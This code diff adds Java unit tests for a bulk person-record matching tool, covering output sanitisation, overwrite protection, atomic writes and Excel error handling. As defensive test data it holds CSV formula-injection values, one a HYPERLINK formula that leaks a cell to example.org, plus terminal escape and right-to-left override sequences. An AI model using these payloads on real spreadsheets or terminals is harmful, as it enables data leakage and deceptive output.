@@ -112,7 +112,8 @@ class BulkMatchCommandTests {
 				+ "@SUM(1+1),Fatemeh,Hosseini,,1994-03-12,,F,AFG\n"
 				+ "-7,Fatima,Huseyni,,1994-03-12,,F,AFG\n"
 				+ "A-7,Fatma,Hüseyni,,1994-03-12,,F,AFG\n"
-				+ "+905551112233,Fatma,Hüseyni,,1994-03-12,,F,AFG\n");
+				+ "+905551112233,Fatma,Hüseyni,,1994-03-12,,F,AFG\n"
+				+ "'quoted,Fatma,Hüseyni,,1994-03-12,,F,AFG\n");
 		assertThat(run("--input", input.toString(), "--output", dir.resolve("pairs.csv").toString(), "--clusters",
 				dir.resolve("clusters.csv").toString())).isZero();
 		List<String> ids = new java.util.ArrayList<>();
@@ -121,9 +122,111 @@ class BulkMatchCommandTests {
 			ids.add(pair.get("right_id"));
 		}
 		assertThat(ids).contains("'=HYPERLINK(\"http://example.org/?\"&A1,\"open\")", "'@SUM(1+1)", "'-7", "A-7",
-				"'+905551112233")
+				"'+905551112233", "''quoted")
 			.noneMatch(id -> id.startsWith("=") || id.startsWith("@") || id.startsWith("-") || id.startsWith("+"));
 		assertThat(Files.readString(dir.resolve("clusters.csv"))).contains("'@SUM(1+1),").doesNotContain("\n@", "\n=");
+	}
+
+	@Test
+	void controlCharactersOfTheInputNeverReachTheTerminal() throws Exception {
+		// an escape that clears the screen, one that moves up and erases the line before (a "skipped" line hidden),
+		// a bell, a right-to-left override
+		String clear = "\u001B[2Jx";
+		Path input = file("records.csv", HEADER
+				+ clear + ",Fatma,Hüseyni,,1994-03-12,,F,AFG\n"
+				+ clear + ",Fatma,Hüseyni,,1994-03-12,,F,AFG\n"
+				+ "e2,Ali,Veli,,1990-01-01,,Q\u001B[1A\u001B[2K,TUR\n"
+				+ "e3,Ali,Veli,,1990-01-01,,\u0007\u202E,TUR\n");
+		assertThat(run("--input", input.toString(), "--output", dir.resolve("pairs.csv").toString(), "--lang", "en"))
+			.isZero();
+		assertThat(errors()).contains("the id \"\\u001B[2Jx\" appears more than once")
+			.contains("\\u001B[1A\\u001B[2K").contains("\\u0007\\u202E")
+			.doesNotContain("\u001B", "\u0007", "\u202E");
+	}
+
+	@Test
+	void anOutputIsNeverWrittenOverTheInputOrTheOtherOutput() throws Exception {
+		Path input = file("records.csv", PEOPLE);
+		assertThat(run("--input", input.toString(), "--output", input.toString(), "--lang", "en")).isEqualTo(2);
+		assertThat(errors()).contains("is named by both --input and --output: the command would write over it");
+		assertThat(Files.readString(input)).isEqualTo(PEOPLE);
+		err.reset();
+		// through another spelling of the same path
+		Path sameByAnotherName = dir.resolve(".").resolve("records.csv");
+		assertThat(run("--input", input.toString(), "--output", sameByAnotherName.toString())).isEqualTo(2);
+		assertThat(Files.readString(input)).isEqualTo(PEOPLE);
+		err.reset();
+		Path pairs = dir.resolve("pairs.csv");
+		assertThat(run("--input", input.toString(), "--output", pairs.toString(), "--clusters", pairs.toString(),
+				"--lang", "en")).isEqualTo(2);
+		assertThat(errors()).contains("is named by both --output and --clusters");
+	}
+
+	@Test
+	void aFolderThatCannotBeWrittenIsFoundBeforeTheMatchingAndNoPartOfAFileIsLeft() throws Exception {
+		Path input = file("records.csv", PEOPLE);
+		assertThat(run("--input", input.toString(), "--output", dir.resolve("missing/pairs.csv").toString(), "--lang",
+				"en")).isEqualTo(1);
+		assertThat(errors()).contains("Cannot write the output").doesNotContain("Records read");
+		// before the input is even read: a file that cannot be read is not the first thing the user hears of
+		Path unreadable = file("old.csv", "id,name\n1,x\n");
+		assertThat(run("--input", unreadable.toString(), "--output", dir.resolve("missing/pairs.csv").toString()))
+			.isEqualTo(1);
+		// nor is one output written while the other cannot be
+		assertThat(run("--input", input.toString(), "--output", dir.resolve("alone.csv").toString(), "--clusters",
+				dir.resolve("missing/clusters.csv").toString())).isEqualTo(1);
+		assertThat(Files.exists(dir.resolve("alone.csv"))).isFalse();
+		// a run that fails on its input leaves no part of its outputs, and the outputs of an earlier run as they were
+		Path pairs = dir.resolve("pairs.csv");
+		Files.writeString(pairs, "an earlier run's pairs");
+		Path bad = file("bad.csv", "id,name\n1,x\n");
+		assertThat(run("--input", bad.toString(), "--output", pairs.toString(), "--clusters",
+				dir.resolve("clusters.csv").toString())).isEqualTo(2);
+		assertThat(Files.readString(pairs)).isEqualTo("an earlier run's pairs");
+		assertThat(Files.exists(dir.resolve("clusters.csv"))).isFalse();
+		try (var files = Files.list(dir)) {
+			assertThat(files.map(f -> f.getFileName().toString())).noneMatch(name -> name.endsWith(".part"));
+		}
+		// a run that succeeds replaces them whole
+		assertThat(run("--input", input.toString(), "--output", pairs.toString())).isZero();
+		assertThat(Files.readString(pairs)).startsWith("left_id,right_id,score,decision,explanation");
+	}
+
+	@Test
+	void lineNumbersAreRightInAFileWhoseLinesEndWithACarriageReturnAlone() throws Exception {
+		// an old Mac file: lines end with CR
+		Path input = file("records.csv", (HEADER + "a1,Ali,Veli,,1990-01-01,,M,TUR\n" + "a2,Ali,Veli,,1990-13-45,,M,TUR\n")
+			.replace("\n", "\r"));
+		assertThat(run("--input", input.toString(), "--output", dir.resolve("pairs.csv").toString(), "--lang", "en"))
+			.isZero();
+		assertThat(errors()).contains("Line 3: skipped: birth_date");
+	}
+
+	@Test
+	void aWorkbookOfSeveralSheetsSaysWhichWasReadAndABrokenOneEndsWithItsReason() throws Exception {
+		Path input = dir.resolve("years.xlsx");
+		try (XSSFWorkbook workbook = new XSSFWorkbook(); OutputStream stream = Files.newOutputStream(input)) {
+			var sheet = workbook.createSheet("2025");
+			String[][] rows = { HEADER.strip().split(","), { "a1", "Ali", "Veli", "", "1990-01-01", "", "M", "TUR" } };
+			for (int r = 0; r < rows.length; r++) {
+				var row = sheet.createRow(r);
+				for (int c = 0; c < rows[r].length; c++) {
+					row.createCell(c).setCellValue(rows[r][c]);
+				}
+			}
+			workbook.createSheet("2024").createRow(0).createCell(0).setCellValue("id");
+			workbook.createSheet("2023");
+			workbook.write(stream);
+		}
+		assertThat(run("--input", input.toString(), "--output", dir.resolve("pairs.csv").toString(), "--lang", "en"))
+			.isZero();
+		assertThat(errors()).contains("Only the first sheet, \"2025\", was read: the workbook has 2 more (2024, 2023)");
+		err.reset();
+		// a cell that points at a shared text the workbook does not have
+		rewriteEntry(input, "xl/worksheets/sheet1.xml", xml -> xml.replaceFirst("<v>\\d+</v>", "<v>99999</v>"));
+		assertThat(run("--input", input.toString(), "--output", dir.resolve("pairs.csv").toString(), "--lang", "en"))
+			.isEqualTo(2);
+		assertThat(errors()).contains("cannot be read as an Excel workbook").doesNotContain("\tat ");
 	}
 
 	@Test
@@ -480,7 +583,8 @@ class BulkMatchCommandTests {
 		Path notAWorkbook = file("records.xlsx", PEOPLE);
 		assertThat(run("--input", notAWorkbook.toString(), "--output", dir.resolve("p.csv").toString(), "--lang", "en"))
 			.isEqualTo(2);
-		assertThat(errors()).contains("Cannot read the file");
+		assertThat(errors()).contains("cannot be read as an Excel workbook: it is damaged, protected by a password, or"
+				+ " not what its name says (");
 		err.reset();
 		Path empty = dir.resolve("empty.xlsx");
 		try (XSSFWorkbook workbook = new XSSFWorkbook(); OutputStream stream = Files.newOutputStream(empty)) {
